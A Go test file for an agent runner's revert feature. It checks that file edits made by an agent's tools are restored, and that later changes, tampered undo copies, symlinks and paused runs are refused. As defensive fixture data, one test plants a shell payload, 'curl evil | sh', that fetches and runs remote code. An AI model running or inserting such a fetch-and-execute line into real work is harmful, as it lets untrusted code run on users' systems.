package runner

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/guildhall/guildhall/runner/provider"
	"github.com/guildhall/guildhall/store"
)

// revertRun runs turns of the file-tool guild in a workspace prepared by
// setup and returns the workspace and the run id.
func revertRun(t *testing.T, setup func(dir string), turns ...provider.ScriptTurn) (string, string) {
	t.Helper()
	h := newHarness(t, changesGuild(t), map[string][]provider.ScriptTurn{"solo": turns})
	if setup != nil {
		setup(h.dir)
	}
	_, _, meta := h.run()
	return h.dir, meta.RunID
}

func readText(t *testing.T, dir, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, name))
	if err != nil {
		t.Fatalf("read %s: %v", name, err)
	}
	return string(b)
}

func planFiles(p *RevertPlan) map[string]RevertFile {
	out := map[string]RevertFile{}
	for _, f := range p.Files {
		out[f.Path] = f
	}
	return out
}

// editingRun edits a file, creates one in new folders, rewrites one whole
// and deletes it with a command, chmods nothing and leaves one as it was.
func editingRun(t *testing.T) (string, string) {
	return revertRun(t, func(dir string) {
		write(t, dir, "a.txt", "one\ntwo\n")
		write(t, dir, "gone.txt", "keep me\n")
		if err := os.Chmod(filepath.Join(dir, "gone.txt"), 0o600); err != nil {
			t.Fatal(err)
		}
		write(t, dir, "same.txt", "x\n")
	},
		turn("", call("edit_file", map[string]any{"path": "a.txt", "old_string": "two", "new_string": "TWO"})),
		turn("", call("write_file", map[string]any{"path": "new/deep/b.txt", "content": "fresh\n"})),
		turn("", call("write_file", map[string]any{"path": "gone.txt", "content": "rewritten\n"})),
		turn("", call("run_shell", map[string]any{"command": "rm gone.txt"})),
		turn("", call("edit_file", map[string]any{"path": "same.txt", "old_string": "x", "new_string": "y"})),
		turn("", call("edit_file", map[string]any{"path": "same.txt", "old_string": "y", "new_string": "x"})),
		turn("", finishCall("success", "done")),
	)
}

func TestRevertPutsBackWhatTheFileToolsChanged(t *testing.T) {
	dir, id := editingRun(t)
	ws := testWS(dir)
	plan, err := PlanRevert(ws, dir, id, nil)
	if err != nil {
		t.Fatal(err)
	}
	files := planFiles(plan)
	for path, want := range map[string]string{"a.txt": RevertRestore, "new/deep/b.txt": RevertDelete, "gone.txt": RevertRestore, "same.txt": RevertNone} {
		if f := files[path]; f.Action != want || f.Refused != "" || f.Later {
			t.Errorf("%s: %+v, want %s", path, f, want)
		}
	}
	if plan.Commands != 1 || !strings.Contains(plan.CommandNote(), "1 tool call that can change files") || !strings.Contains(plan.CommandNote(), "Without a git base") {
		t.Errorf("commands %d: %q", plan.Commands, plan.CommandNote())
	}
	res, err := ApplyRevert(ws, dir, plan, false, "cli", time.Now())
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(res.Restored, " ") != "a.txt gone.txt" || strings.Join(res.Deleted, " ") != "new/deep/b.txt" || len(res.Skipped) != 0 {
		t.Errorf("result %+v", res)
	}
	if got := readText(t, dir, "a.txt"); got != "one\ntwo\n" {
		t.Errorf("a.txt is %q", got)
	}
	if got := readText(t, dir, "gone.txt"); got != "keep me\n" {
		t.Errorf("gone.txt is %q", got)
	}
	if fi, _ := os.Stat(filepath.Join(dir, "gone.txt")); fi == nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("gone.txt came back with mode %v", fi.Mode())
	}
	if _, err := os.Stat(filepath.Join(dir, "new")); !os.IsNotExist(err) {
		t.Errorf("the folders the run made are still there: %v", err)
	}
	rec, err := ws.ReadUndo(id)
	if err != nil || rec.Foreign || len(rec.Reverts) != 1 || rec.Reverts[0].By != "cli" || len(rec.Reverts[0].Deleted) != 1 {
		t.Fatalf("the revert is not recorded: %+v %v", rec, err)
	}
	// Again: nothing left to do.
	plan, _ = PlanRevert(ws, dir, id, nil)
	if n := len(plan.Revertable(true)); n != 0 {
		t.Errorf("a second revert would change %d files", n)
	}
}

// A file changed after the run ended is refused, with the change shown
// (from how the run left it to now), until forced; one path at a time.
func TestRevertRefusesALaterChangeUnlessForced(t *testing.T) {
	dir, id := editingRun(t)
	ws := testWS(dir)
	write(t, dir, "a.txt", "one\nTWO\nthe operator's line\n")
	plan, err := PlanRevert(ws, dir, id, []string{"./a.txt"})
	if err != nil {
		t.Fatal(err)
	}
	if len(plan.Files) != 1 {
		t.Fatalf("plan for one path: %+v", plan.Files)
	}
	f := plan.Files[0]
	if !f.Later || !strings.Contains(f.LaterDiff, "+the operator's line") || !strings.Contains(f.LaterDiff, "--- a.txt (as the run left it)\n+++ a.txt (now)") {
		t.Fatalf("a.txt: %+v", f)
	}
	res, err := ApplyRevert(ws, dir, plan, false, "cli", time.Now())
	if err != nil || len(res.Restored) != 0 || len(res.Skipped) != 1 || !strings.Contains(res.Skipped[0].Refused, "changed after the run ended") {
		t.Fatalf("unforced: %+v %v", res, err)
	}
	if got := readText(t, dir, "a.txt"); !strings.Contains(got, "operator's line") {
		t.Fatalf("an unforced revert wrote a.txt: %q", got)
	}
	// Changed again between the plan and the apply: not what was confirmed.
	write(t, dir, "a.txt", "yet another\n")
	res, _ = ApplyRevert(ws, dir, plan, true, "cli", time.Now())
	if len(res.Restored) != 0 || len(res.Skipped) != 1 || !strings.Contains(res.Skipped[0].Refused, "since the revert was planned") {
		t.Fatalf("a change after the plan: %+v", res)
	}
	plan, _ = PlanRevert(ws, dir, id, []string{filepath.Join(dir, "a.txt")})
	res, err = ApplyRevert(ws, dir, plan, true, "console", time.Now())
	if err != nil || strings.Join(res.Forced, " ") != "a.txt" {
		t.Fatalf("forced: %+v %v", res, err)
	}
	if got := readText(t, dir, "a.txt"); got != "one\ntwo\n" {
		t.Errorf("a.txt is %q", got)
	}
	// A path the run's file tools never wrote.
	plan, _ = PlanRevert(ws, dir, id, []string{"README.md"})
	if len(plan.Files) != 1 || !strings.Contains(plan.Files[0].Refused, "did not write it") {
		t.Errorf("README.md: %+v", plan.Files)
	}
}

// A copy under undo/ that is not what the sealed record names, and an
// undo.json that is not sealed, are never written into the workspace.
func TestRevertRefusesTamperedCopies(t *testing.T) {
	dir, id := editingRun(t)
	ws := testWS(dir)
	rec, err := ws.ReadUndo(id)
	if err != nil {
		t.Fatal(err)
	}
	sum := rec.Entry("a.txt").Before.SHA256
	blob := filepath.Join(dir, ".orchestration", "runs", id, "undo", sum)
	if err := os.WriteFile(blob, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	plan, err := PlanRevert(ws, dir, id, nil)
	if err != nil {
		t.Fatal(err)
	}
	if f := planFiles(plan)["a.txt"]; f.Action != RevertNone || !strings.Contains(f.Refused, "does not hold what the run's sealed record says") {
		t.Errorf("a.txt with a planted copy: %+v", f)
	}
	// A link to a file outside in the copy's place is not followed either.
	outside := filepath.Join(t.TempDir(), "secret")
	write(t, filepath.Dir(outside), "secret", "one\ntwo\n")
	_ = os.Remove(blob)
	if err := os.Symlink(outside, blob); err != nil {
		t.Fatal(err)
	}
	plan, _ = PlanRevert(ws, dir, id, nil)
	if f := planFiles(plan)["a.txt"]; f.Action != RevertNone || !strings.Contains(f.Refused, "cannot be read") {
		t.Errorf("a.txt with a linked copy: %+v", f)
	}
	res, _ := ApplyRevert(ws, dir, plan, true, "cli", time.Now())
	for _, p := range res.Restored {
		if p == "a.txt" {
			t.Fatal("a.txt was restored from a planted copy")
		}
	}
	if got := readText(t, dir, "a.txt"); got != "one\nTWO\n" {
		t.Errorf("a.txt is %q", got)
	}

	// Rewrite the record itself: its seal no longer holds.
	path := filepath.Join(dir, ".orchestration", "runs", id, "undo.json")
	b, _ := os.ReadFile(path)
	if err := os.WriteFile(path, bytes.Replace(b, []byte(`"a.txt"`), []byte(`"b.txt"`), 1), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := PlanRevert(ws, dir, id, nil); err == nil || !strings.Contains(err.Error(), "not sealed by you") {
		t.Errorf("a rewritten undo.json: %v", err)
	}
	// The same record read without the operator's key is foreign too.
	if _, err := PlanRevert(store.Workspace{Dir: dir}, dir, id, nil); err == nil {
		t.Error("an unsealed workspace's record was used")
	}
}

// A revert writes only where the file tools may: a path that leads
// through a link now is refused.
func TestRevertDoesNotFollowALinkOnTheWay(t *testing.T) {
	dir, id := editingRun(t)
	ws := testWS(dir)
	outside := t.TempDir()
	write(t, outside, "deep/b.txt", "outside\n")
	if err := os.RemoveAll(filepath.Join(dir, "new")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(dir, "new")); err != nil {
		t.Fatal(err)
	}
	plan, err := PlanRevert(ws, dir, id, []string{"new/deep/b.txt"})
	if err != nil {
		t.Fatal(err)
	}
	if f := plan.Files[0]; f.Refused == "" {
		t.Fatalf("new/deep/b.txt through a link: %+v", f)
	}
	_, _ = ApplyRevert(ws, dir, plan, true, "cli", time.Now())
	if got := readText(t, outside, "deep/b.txt"); got != "outside\n" {
		t.Errorf("the revert reached outside: %q", got)
	}
}

// A file larger than the copy a run keeps is written, but cannot be
// reverted, and the plan says why; a live run cannot be reverted at all.
func TestRevertBounds(t *testing.T) {
	big := strings.Repeat("x", store.UndoMaxFile+1)
	dir, id := revertRun(t, func(dir string) { write(t, dir, "big.txt", big) },
		turn("", call("write_file", map[string]any{"path": "big.txt", "content": "small\n"})),
		turn("", finishCall("success", "done")),
	)
	ws := testWS(dir)
	plan, err := PlanRevert(ws, dir, id, nil)
	if err != nil {
		t.Fatal(err)
	}
	if f := planFiles(plan)["big.txt"]; f.Action != RevertNone || !strings.Contains(f.Refused, "not kept (larger than the copy a run keeps") {
		t.Errorf("big.txt: %+v", f)
	}
	meta, _ := ws.ReadMeta(id)
	meta.Status = store.StatusPaused
	if err := ws.WriteMeta(meta); err != nil {
		t.Fatal(err)
	}
	if _, err := PlanRevert(ws, dir, id, nil); err == nil || !strings.Contains(err.Error(), "it is paused; revert it once it has ended") {
		t.Errorf("a paused run: %v", err)
	}
}
